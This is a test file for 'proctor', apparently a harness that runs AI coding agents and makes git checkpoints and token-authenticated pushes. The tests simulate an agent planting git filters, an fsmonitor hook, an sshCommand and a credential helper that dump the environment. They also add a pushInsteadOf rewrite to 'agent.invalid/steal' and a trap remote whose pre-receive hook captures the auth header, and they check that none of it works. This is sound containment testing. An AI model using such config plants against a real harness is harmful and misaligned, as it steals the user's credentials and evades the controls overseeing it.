// proctor's own git obeys no configuration the agent wrote (issue 26). The "agent" here is the test: once
// the session's runner has made its first call (in a session: before the agent starts), it plants programs
// in every config git would read — ~/.gitconfig, $XDG_CONFIG_HOME/git/config, the repository's .git/config —
// and each planted program leaves a marker file when it runs. No marker may appear, and a push goes to the
// URL the remote had at the start, with the token reaching nothing the agent chose.
import { execFileSync, spawn } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import { createServer, type Socket } from 'node:net'
import path from 'node:path'
import { randomBytes } from 'node:crypto'
import { afterEach, describe, expect, it } from 'vitest'

import { runBatch } from '../../src/batch/batch.js'
import { PushQueue } from '../../src/checkpoints/push.js'
import { CheckpointStore } from '../../src/checkpoints/store.js'
import { tokenHeaderConfig } from '../../src/git/credentials.js'
import { Git } from '../../src/git/runner.js'
import { cloneRepo, makeTempRepo, tempDir, type TempRepo } from '../helpers/git-repo.js'
import { startGitHttpServer } from '../servers/git-http.js'
import { batchRepo, fastConfig } from './batch-helpers.js'

const cleanups: (() => void | Promise<void>)[] = []
const randomSuffix = () => randomBytes(3).toString('hex')
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup()
})

/**
 * A home and XDG config dir of the agent's, and the environment proctor is started with: the real
 * ~/.gitconfig and XDG file are read (no GIT_CONFIG_GLOBAL), as on a user's machine or a runner.
 */
function agentHome(): { home: string; xdg: string; markers: string; env: NodeJS.ProcessEnv } {
  const base = tempDir('proctor-agent-home-')
  cleanups.push(() => fs.rmSync(base, { recursive: true, force: true }))
  const home = path.join(base, 'home')
  const xdg = path.join(base, 'xdg')
  const markers = path.join(base, 'markers')
  for (const dir of [home, path.join(xdg, 'git'), markers]) fs.mkdirSync(dir, { recursive: true })
  const env: NodeJS.ProcessEnv = { ...process.env }
  for (const key of Object.keys(env)) if (key.startsWith('GIT_')) delete env[key]
  Object.assign(env, {
    HOME: home,
    XDG_CONFIG_HOME: xdg,
    GIT_CONFIG_NOSYSTEM: '1',
    GIT_AUTHOR_NAME: 'Test User',
    GIT_AUTHOR_EMAIL: 'test@example.com',
    GIT_COMMITTER_NAME: 'Test User',
    GIT_COMMITTER_EMAIL: 'test@example.com',
  })
  return { home, xdg, markers, env }
}

/** A shell program that records it ran (and its environment) in `markers/<name>`, then acts as `cat`. */
function marker(markers: string, name: string): string {
  const script = path.join(markers, `${name}.sh`)
  fs.writeFileSync(
    script,
    `#!/bin/sh\nenv > ${JSON.stringify(path.join(markers, name))}\ncat /proc/$PPID/cmdline >> ${JSON.stringify(path.join(markers, name))}\ncp ${JSON.stringify(path.join(markers, name))} /tmp/lastmarker\nexec cat\n`,
  )
  fs.chmodSync(script, 0o755)
  return script
}

function ran(markers: string): string[] {
  return fs.readdirSync(markers).filter((f) => !f.endsWith('.sh'))
}

function append(file: string, text: string): void {
  fs.mkdirSync(path.dirname(file), { recursive: true })
  fs.appendFileSync(file, text)
}

describe("proctor's checkpoint git runs nothing the agent configured", () => {
  it('filters and fsmonitor in the global, XDG and repository config run in no checkpoint git process', async () => {
    const { home, xdg, markers, env } = agentHome()
    const repo = makeTempRepo({ files: { 'src/a.ts': 'a\n' } })
    cleanups.push(repo.cleanup)
    const git = new Git({ cwd: repo.dir, env })
    const store = new CheckpointStore({ git, session: 'iso-1', maxFileSize: 1 << 20 })
    cleanups.push(() => store.close().catch(() => undefined))
    await git.headCommit() // the session's first call, before its agent starts

    // The agent plants a clean filter for every file in each config, and an fsmonitor hook.
    append(path.join(home, '.gitconfig'), `[filter "g"]\n\tclean = ${marker(markers, 'global-filter')}\n`)
    append(path.join(xdg, 'git/config'), `[filter "x"]\n\tclean = ${marker(markers, 'xdg-filter')}\n`)
    append(
      path.join(repo.dir, '.git/config'),
      `[filter "r"]\n\tclean = ${marker(markers, 'repo-filter')}\n[core]\n\tfsmonitor = ${marker(markers, 'fsmonitor')}\n`,
    )
    repo.write('.gitattributes', '*.ts filter=g\n*.md filter=x\n*.txt filter=r\n')
    repo.write('src/a.ts', 'changed\n')
    repo.write('notes.md', 'notes\n')
    repo.write('log.txt', 'log\n')

    const first = await store.create('interval')
    repo.write('log.txt', 'log 2\n')
    const second = await store.create('interval')

    expect(ran(markers)).toEqual([])
    // The content is what the files hold (no filter rewrote it), and both checkpoints were made.
    expect(repo.git(['show', `${first!.sha}:src/a.ts`])).toBe('changed\n')
    expect(repo.git(['show', `${second!.sha}:log.txt`])).toBe('log 2\n')
  })

  it('a filter rewritten into .git/config in a loop while checkpoints are taken never runs (no race)', async () => {
    const { markers, env } = agentHome()
    const repo = makeTempRepo({ files: { 'a.txt': 'a\n' } })
    cleanups.push(repo.cleanup)
    const git = new Git({ cwd: repo.dir, env })
    const store = new CheckpointStore({ git, session: 'iso-race', maxFileSize: 1 << 20 })
    cleanups.push(() => store.close().catch(() => undefined))
    await git.headCommit()
    repo.write('.gitattributes', '* filter=r\n')
    const config = path.join(repo.dir, '.git/config')
    const clean = fs.readFileSync(config, 'utf8')
    const planted = `${clean}[filter "r"]\n\tclean = ${marker(markers, 'repo-filter')}\n`
    // The agent's loop: a separate process that puts the filter back as fast as it can.
    const loop = spawn(
      'sh',
      // Written beside and renamed over: git never reads a half-written file, as a careful agent would do.
      ['-c', `while :; do printf '%s' "$0" > "$1.new" && mv -f "$1.new" "$1"; done`, planted, config],
      {
        stdio: 'ignore',
      },
    )
    cleanups.push(() => void loop.kill('SIGKILL'))
    for (let i = 0; i < 5; i++) {
      repo.write('a.txt', `a ${i}\n`)
      await store.create('interval')
    }
    loop.kill('SIGKILL')
    expect(ran(markers)).toEqual([])
    expect(repo.git(['show', 'refs/proctor/iso-race:a.txt'])).toBe('a 4\n')
  })

  it("what is ignored and who commits stay the user's, read before the agent started", async () => {
    const { home, env } = agentHome()
    const excludes = path.join(home, 'ignore-global')
    fs.writeFileSync(excludes, '*.secret\n')
    fs.writeFileSync(
      path.join(home, '.gitconfig'),
      `[user]\n\tname = Real User\n\temail = real@example.com\n[core]\n\texcludesFile = ${excludes}\n`,
    )
    const repo = makeTempRepo({ files: { 'a.txt': 'a\n' } })
    cleanups.push(repo.cleanup)
    append(path.join(repo.dir, '.git/info/exclude'), 'local.tmp\n')
    for (const key of ['GIT_AUTHOR_NAME', 'GIT_AUTHOR_EMAIL', 'GIT_COMMITTER_NAME', 'GIT_COMMITTER_EMAIL'])
      delete env[key]
    const git = new Git({ cwd: repo.dir, env })
    const store = new CheckpointStore({ git, session: 'iso-id', maxFileSize: 1 << 20 })
    cleanups.push(() => store.close().catch(() => undefined))
    await git.headCommit()
    // The agent renames the user afterwards; the checkpoint is still by the user it was.
    fs.writeFileSync(path.join(home, '.gitconfig'), `[user]\n\tname = Agent\n\temail = agent@example.com\n`)
    repo.write('a.txt', 'b\n')
    repo.write('key.secret', 'k\n')
    repo.write('local.tmp', 't\n')
    const cp = await store.create('interval')
    expect(repo.git(['ls-tree', '-r', '--name-only', cp!.sha]).split('\n').filter(Boolean).sort()).toEqual([
      'a.txt',
    ])
    expect(repo.git(['log', '-1', '--format=%an <%ae>', cp!.sha]).trim()).toBe('Real User <real@example.com>')
  })

  it('the global ignore and attributes files are read as they were at the start, whatever the agent writes to them', async () => {
    const { home, xdg, env } = agentHome()
    // The user's: an excludesFile named with `~/`, and no attributes file (git's XDG default, absent).
    fs.writeFileSync(path.join(home, 'ignore-global'), '*.secret\n')
    fs.writeFileSync(path.join(home, '.gitconfig'), `[core]\n\texcludesFile = ~/ignore-global\n`)
    const repo = makeTempRepo({ files: { 'a.txt': 'a\n' } })
    cleanups.push(repo.cleanup)
    const git = new Git({ cwd: repo.dir, env })
    const store = new CheckpointStore({ git, session: 'iso-xdg', maxFileSize: 1 << 20 })
    cleanups.push(() => store.close().catch(() => undefined))
    await git.headCommit()
    // The agent rewrites the named file and creates git's default ones, which git reads live.
    fs.writeFileSync(path.join(home, 'ignore-global'), 'hidden-*\n')
    fs.writeFileSync(path.join(xdg, 'git/ignore'), 'secrets/\n')
    fs.writeFileSync(path.join(xdg, 'git/attributes'), '*.txt text\n')
    repo.write('a.txt', 'b\r\n')
    repo.write('hidden-setup.js', 'x\n')
    repo.write('secrets/key', 'k\n')
    repo.write('key.secret', 'k\n')
    const cp = await store.create('interval')
    expect(repo.git(['ls-tree', '-r', '--name-only', cp!.sha]).split('\n').filter(Boolean).sort()).toEqual([
      'a.txt',
      'hidden-setup.js',
      'secrets/key',
    ])
    // No `text` attribute at the start: the checkpoint holds the bytes the agent wrote, CRLF and all.
    expect(repo.git(['cat-file', 'blob', `${cp!.sha}:a.txt`])).toBe('b\r\n')
  })
})

describe("proctor's private git directory", () => {
  it('of a process that died without its exit handler is removed by the next proctor; a live one is left', async () => {
    const repo = makeTempRepo({ files: { 'a.txt': 'a\n' } })
    cleanups.push(() => repo.cleanup())
    const dead = execFileSync(process.execPath, ['-e', 'process.stdout.write(String(process.pid))'], {
      encoding: 'utf8',
    })
    const tmp = (pid: string | number) => path.join(os.tmpdir(), `proctor-git-${pid}-test${randomSuffix()}`)
    // What a SIGKILLed proctor leaves: its shadow git dir with the shared part of a split private index.
    const left = tmp(dead)
    fs.mkdirSync(path.join(left, 'git'), { recursive: true })
    fs.writeFileSync(path.join(left, 'git', 'sharedindex.0000'), 'x'.repeat(1 << 16))
    const live = tmp(process.pid)
    fs.mkdirSync(live)
    try {
      // A new proctor process: its first git call makes its own private directory (and sweeps).
      const script = `import { Git } from ${JSON.stringify(path.resolve('src/git/runner.ts'))}
await new Git({ cwd: process.argv[1] }).raw(['status', '--porcelain'])`
      execFileSync(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script, repo.dir], {
        env: repo.env,
        stdio: 'pipe',
      })
      expect(fs.existsSync(left)).toBe(false)
      expect(fs.existsSync(live)).toBe(true)
    } finally {
      fs.rmSync(left, { recursive: true, force: true })
      fs.rmSync(live, { recursive: true, force: true })
    }
  })
})

describe("a batch's worktrees are reset by proctor's git, not the repository's", () => {
  it('a smudge filter a task put in the shared .git/config runs in no recycle or checkout of a worktree', async () => {
    const { markers } = agentHome()
    const r = batchRepo()
    cleanups.push(r.cleanup)
    r.write('.gitattributes', '*.ts filter=x\n')
    r.commitAll('attributes')
    const smudge = marker(markers, 'smudge')
    // The first task plants the filter (with checkpoints off, nothing undoes it) and edits a tracked file,
    // which the reset for the next task must write back.
    const outcome = await runBatch({
      config: fastConfig(r),
      cwd: r.dir,
      env: r.env,
      concurrency: 1,
      batchId: 'smudge',
      tasks: [
        {
          name: 'plant',
          command: { shell: `git config filter.x.smudge '${smudge}' && echo changed > src/a.ts` },
          role: null,
        },
        { name: 'second', command: { shell: 'true' }, role: null },
        { name: 'third', command: { shell: 'true' }, role: null },
      ],
    })
    expect(outcome.batch.children.map((c) => c.status)).toEqual(['completed', 'completed', 'completed'])
    expect(ran(markers)).toEqual([])
  })
})

describe('a recycled worktree without checkout', () => {
  it('a merge the task left half-done is cleared, as checkout cleared it', async () => {
    const r = batchRepo()
    cleanups.push(r.cleanup)
    const out = tempDir('proctor-merge-out-')
    cleanups.push(() => fs.rmSync(out, { recursive: true, force: true }))
    const conflict = [
      'git checkout -q -b other && echo theirs > README.md && git commit -qam theirs',
      'git checkout -q --detach HEAD~1 && echo ours > README.md && git commit -qam ours',
      'git merge other >/dev/null 2>&1 || true',
      'test -f "$(git rev-parse --git-path MERGE_HEAD)" && echo merging > "$OUT/left"',
    ].join('\n')
    const probe = [
      '{ git rev-parse -q --verify MERGE_HEAD || echo no-merge; git status --porcelain; cat README.md; }',
      '> "$OUT/$PROCTOR_TASK_NAME"',
    ].join(' ')
    const outcome = await runBatch({
      config: fastConfig(r),
      cwd: r.dir,
      env: { ...r.env, OUT: out },
      concurrency: 1,
      batchId: 'merge',
      tasks: [
        { name: 'conflict', command: { shell: conflict }, role: null },
        { name: 'probe1', command: { shell: probe }, role: null },
        { name: 'probe2', command: { shell: probe }, role: null },
      ],
    })
    expect(outcome.batch.children.map((c) => c.status)).toEqual(['completed', 'completed', 'completed'])
    expect(fs.readFileSync(path.join(out, 'left'), 'utf8')).toBe('merging\n')
    for (const task of ['probe1', 'probe2'])
      expect(fs.readFileSync(path.join(out, task), 'utf8')).toBe('no-merge\nhello\n')
  })
})

describe('the push reaches only the URL fixed at the start, and the token nothing the agent chose', () => {
  async function servedWithToken() {
    const projectRoot = tempDir('proctor-http-')
    cleanups.push(() => fs.rmSync(projectRoot, { recursive: true, force: true }))
    const server = await startGitHttpServer({
      projectRoot,
      auth: { user: 'x-access-token', password: 'tok-123' },
    })
    cleanups.push(() => server.close())
    const bare = server.createRepo('origin.git')
    const seed = makeTempRepo({ files: { 'README.md': 'hello\n' } })
    cleanups.push(seed.cleanup)
    seed.git(['push', '-q', bare, 'main'])
    const work = cloneRepo(`file://${bare}`)
    cleanups.push(work.cleanup)
    work.git(['remote', 'set-url', 'origin', server.repoUrl('origin.git')])
    const branch = (): string | null => {
      try {
        return execFileSync('git', ['rev-parse', '--verify', '-q', 'refs/heads/proctor/run-1'], {
          cwd: bare,
          encoding: 'utf8',
        }).trim()
      } catch {
        return null
      }
    }
    return { work, server, branch }
  }

  async function pushAfter(work: TempRepo, env: NodeJS.ProcessEnv, plant: () => void, url: string) {
    const git = new Git({ cwd: work.dir, env })
    await git.headCommit() // before the agent
    plant()
    const store = new CheckpointStore({ git, session: 'run-1', maxFileSize: 1 << 20 })
    cleanups.push(() => store.close().catch(() => undefined))
    const queue = new PushQueue({
      git,
      session: 'run-1',
      remote: 'origin',
      branchTemplate: 'proctor/{session}',
      mode: 'always',
      sessionDir: path.join(work.dir, '.proctor/sessions/run-1'),
      base: work.git(['rev-parse', 'HEAD']).trim(),
      backoffMs: [1],
      secretConfig: tokenHeaderConfig(url, 'tok-123'),
    })
    work.write('work.txt', 'agent work\n')
    const cp = await store.create('interval')
    return { cp, record: await queue.flush() }
  }

  it('a global pushInsteadOf + sshCommand + credential helper written by the agent: pushed to the trusted URL, no agent program ran', async () => {
    const { work, server, branch } = await servedWithToken()
    const { home, markers, env } = agentHome()
    const url = server.repoUrl('origin.git')
    const { cp, record } = await pushAfter(
      work,
      env,
      () =>
        append(
          path.join(home, '.gitconfig'),
          `[url "ssh://agent.invalid/steal/"]\n\tpushInsteadOf = ${url.slice(0, url.lastIndexOf('/') + 1)}\n` +
            `[core]\n\tsshCommand = ${marker(markers, 'ssh')}\n` +
            `[credential]\n\thelper = !${marker(markers, 'credential')}\n`,
        ),
      url,
    )
    expect(ran(markers)).toEqual([])
    expect(record).toMatchObject({ ok: true, remote: 'origin' })
    expect(branch()).toBe(cp!.sha)
  })

  it("a remote.origin.pushurl to the agent's repository (its pre-receive dumps the env): never contacted", async () => {
    const { work, server, branch } = await servedWithToken()
    const { markers, env } = agentHome()
    const trap = tempDir('proctor-trap-')
    cleanups.push(() => fs.rmSync(trap, { recursive: true, force: true }))
    execFileSync('git', ['init', '-q', '--bare', trap])
    fs.writeFileSync(
      path.join(trap, 'hooks/pre-receive'),
      `#!/bin/sh\nenv > ${JSON.stringify(path.join(markers, 'pre-receive'))}\n`,
    )
    fs.chmodSync(path.join(trap, 'hooks/pre-receive'), 0o755)
    const { cp, record } = await pushAfter(
      work,
      env,
      () => append(path.join(work.dir, '.git/config'), `[remote "origin"]\n\tpushurl = ${trap}\n`),
      server.repoUrl('origin.git'),
    )
    expect(ran(markers)).toEqual([])
    expect(record).toMatchObject({ ok: true })
    expect(branch()).toBe(cp!.sha)
  })
})

describe("the user's own remote settings from before the session still count", () => {
  it('a pushurl, or a url rewritten by insteadOf, as configured at the start is where the push goes', async () => {
    const repo = makeTempRepo({ files: { 'a.txt': 'a\n' } })
    cleanups.push(repo.cleanup)
    repo.git(['config', 'url.https://git.example.com/.insteadOf', 'ex:'])
    repo.git(['remote', 'add', 'origin', 'ex:team/repo.git'])
    repo.git(['remote', 'add', 'mirror', 'https://a.example.com/r.git'])
    repo.git(['config', 'remote.mirror.pushurl', 'https://b.example.com/r.git'])
    const git = new Git({ cwd: repo.dir, env: repo.env })
    expect(await git.trustedPushUrl('origin')).toBe('https://git.example.com/team/repo.git')
    expect(await git.trustedPushUrl('mirror')).toBe('https://b.example.com/r.git')
    // Changed afterwards (by the agent): not followed.
    repo.git(['remote', 'set-url', 'origin', '/tmp/elsewhere.git'])
    expect(await git.trustedPushUrl('origin')).toBe('https://git.example.com/team/repo.git')
    expect(await git.trustedPushUrl('nope')).toBeNull()
    expect(await git.trustedPushUrl('https://x.example.com/y.git')).toBe('https://x.example.com/y.git')
  })
})

describe('the token goes only where it belongs', () => {
  it('a remote whose URL is a local repository (its hooks would see the env) gets no push with the token', async () => {
    const { markers, env } = agentHome()
    const trap = tempDir('proctor-trap-')
    cleanups.push(() => fs.rmSync(trap, { recursive: true, force: true }))
    execFileSync('git', ['init', '-q', '--bare', trap])
    const dump = path.join(markers, 'pre-receive')
    fs.writeFileSync(path.join(trap, 'hooks/pre-receive'), `#!/bin/sh\nenv > ${JSON.stringify(dump)}\n`)
    fs.chmodSync(path.join(trap, 'hooks/pre-receive'), 0o755)
    const repo = makeTempRepo({ files: { 'a.txt': 'a\n' } })
    cleanups.push(repo.cleanup)
    // What a post step would read after the agent rewrote .git/config: origin is the agent's repository.
    repo.git(['remote', 'add', 'origin', trap])
    const git = new Git({ cwd: repo.dir, env })
    const store = new CheckpointStore({ git, session: 'tok', maxFileSize: 1 << 20 })
    cleanups.push(() => store.close().catch(() => undefined))
    const queue = new PushQueue({
      git,
      session: 'tok',
      remote: 'origin',
      branchTemplate: 'proctor/{session}',
      mode: 'always',
      sessionDir: path.join(repo.dir, '.proctor/sessions/tok'),
      base: repo.git(['rev-parse', 'HEAD']).trim(),
      backoffMs: [1],
      secretConfig: tokenHeaderConfig('https://github.com/owner/repo', 'tok-123'),
    })
    repo.write('a.txt', 'b\n')
    await store.create('interval')
    const record = await queue.flush()
    // (before: the push went there, and the hook's environment held GIT_CONFIG_VALUE_0=AUTHORIZATION: basic …)
    expect(fs.existsSync(dump) ? fs.readFileSync(dump, 'utf8') : '').not.toMatch(/AUTHORIZATION/i)
    expect(ran(markers)).toEqual([])
    expect(record.ok).toBe(false)
    expect(record.reason).toMatch(/is not on the host proctor's token is for/)
    expect(record.bundle).not.toBeNull()
  })
})

describe('checkpoints.push_timeout bounds the whole push', () => {
  it('a remote that accepts and never answers: "push timed out after 1.5s" within the deadline, no git left', async () => {
    const sockets = new Set<Socket>()
    const server = createServer((socket) => {
      sockets.add(socket)
      socket.on('close', () => sockets.delete(socket))
      socket.resume() // read (and drop) what git sends, so its end is seen; answer nothing
    })
    await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok))
    cleanups.push(() => {
      for (const socket of sockets) socket.destroy()
      server.close()
    })
    const port = (server.address() as { port: number }).port
    const repo = makeTempRepo({ files: { 'a.txt': 'a\n' } })
    cleanups.push(repo.cleanup)
    repo.git(['remote', 'add', 'origin', `http://127.0.0.1:${port}/repo.git`])
    const git = new Git({ cwd: repo.dir, env: repo.env })
    const store = new CheckpointStore({ git, session: 'hang', maxFileSize: 1 << 20 })
    cleanups.push(() => store.close().catch(() => undefined))
    const queue = new PushQueue({
      git,
      session: 'hang',
      remote: 'origin',
      branchTemplate: 'proctor/{session}',
      mode: 'always',
      sessionDir: path.join(repo.dir, '.proctor/sessions/hang'),
      base: repo.git(['rev-parse', 'HEAD']).trim(),
      backoffMs: [1],
      timeoutMs: 1500,
    })
    repo.write('a.txt', 'b\n')
    await store.create('interval')
    const started = Date.now()
    const record = await queue.flush()
    const took = Date.now() - started
    expect(record.ok).toBe(false)
    expect(record.reason).toBe('push timed out after 1.5s (checkpoints.push_timeout)')
    expect(record.bundle).not.toBeNull()
    // The deadline, SIGTERM's grace at most, and the bundle.
    expect(took).toBeLessThan(1500 + 2_000 + 1_500)
    // git-remote-http was in git's process group: its connection is gone with it.
    await new Promise<void>((done) => {
      const check = () => (sockets.size === 0 ? done() : setImmediate(check))
      check()
    })
    expect(sockets.size).toBe(0)
  })
})
